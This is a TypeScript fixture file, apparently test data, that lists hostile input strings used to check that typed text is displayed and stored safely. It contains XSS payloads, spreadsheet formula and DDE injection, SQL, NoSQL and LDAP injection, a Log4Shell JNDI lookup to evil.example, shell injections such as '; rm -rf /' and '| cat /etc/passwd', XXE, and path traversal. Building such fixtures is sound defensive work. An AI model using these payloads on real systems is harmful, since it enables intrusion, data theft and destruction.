/** What a renderer, a spreadsheet, a log or a shell might take for its own: for all places that show what was typed. */

export const markups = [
  ...[
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '</td></tr></table><b>x',
    '</h1><script>alert(1)</script>',
  ],
  ...[
    '<!-- x',
    '--><b>x</b>',
    ']]><b>',
    '<![CDATA[x]]>',
    '&lt;b&gt; &amp;amp; &#60;b&#62;',
    '&#x3c;script&#x3e;',
  ],
  ...[
    `"><b>x</b>`,
    `' onfocus='alert(1)`,
    `" autofocus onfocus="alert(1)`,
    'javascript:alert(1)',
    '</title><b>',
    '</textarea>',
  ],
  ...[
    '</style><style>*{display:none}',
    '<base href=//evil.example>',
    '<a href="//evil.example">klik</a>',
    '＜b＞',
    '<\u0131mg>',
  ],
];

/** Written so that nothing here fills them in. */
export const templates = [
  ...[
    '{{7*7}}',
    '{{name}}',
    '{{#each this}}x{{/each}}',
    '{{{raw}}}',
    '$' + '{7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '@(7*7)',
  ],
  ...['{contact}', '{count}', '%s %d %n', '%(name)s', '{0}', '[[x]]', '{% include "x" %}', '$1 $& $$'],
];

export const links = [
  ...[
    'http://evil.example',
    'https://evil.example/x',
    'www.evil.example',
    'mailto:x@evil.example',
    '@akun_palsu',
  ],
  ...['wa.me/6281200000000', 'tel:+6281200000000', '0812-0000-0000', 'bit.ly/x', 'x@evil.example'],
];

export const formulas = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1+1', ';=1+1', '"=1+1"', '%0A=1+1', "=cmd|' /C calc'!A0"],
  ...['=HYPERLINK("http://evil.example","klik")', '+62 811-1111-1111', '-', '=', '=@+-'],
];

export const separators = ['a,b;c', '"a"', 'a"b', "a'b", ',', ';', '"",""', 'a | b', 'sep=;', 'a\\b', 'a/b'];

export const logs = [
  ...[
    '{"_aws":{"Timestamp":1,"CloudWatchMetrics":[]}}',
    '{"level":"ERROR","message":"x"}',
    '"}{"event":"signed-in"',
  ],
  ...['%s %o %c', 'x | office | {"event":"x"}', '_aws', 'REPORT RequestId: x', 'END RequestId: x'],
];

export const keys = [
  ...['S#x', 'P#x#R#padat-karya#2026', '#pk', ':v0', 'a#b|c', 'a.b[0]', 'attribute_exists(pk)', 'pk = :pk'],
  ...['OFFICE', 'SHARED@disnaker@32.12#0', 'LETTERS', 'W#2026-W48#0', 'NATIONAL', 'size', 'name', 'ttl'],
];

export const commands = [
  ...[
    "'; DROP TABLE records;--",
    "' OR '1'='1",
    '$' + '{jndi:ldap://evil.example/x}',
    '$(id)',
    '`id`',
    '; rm -rf /',
    '| cat /etc/passwd',
  ],
  ...[
    '{"$gt":""}',
    '{"$where":"1"}',
    '*)(uid=*))(|(uid=*',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]>',
    '&e;',
    '() { :;}; x',
  ],
];

export const paths = [
  '../../etc/passwd',
  '..\\..\\x',
  '%2e%2e%2f',
  'CON',
  'NUL.txt',
  '/dev/null',
  'C:\\x',
  'file:///x',
  '~root',
  'a/../b',
];

/** All of them. */
export const payloadTexts: readonly string[] = [
  ...[markups, templates, links, formulas, separators, logs, keys, commands, paths].flat(),
];
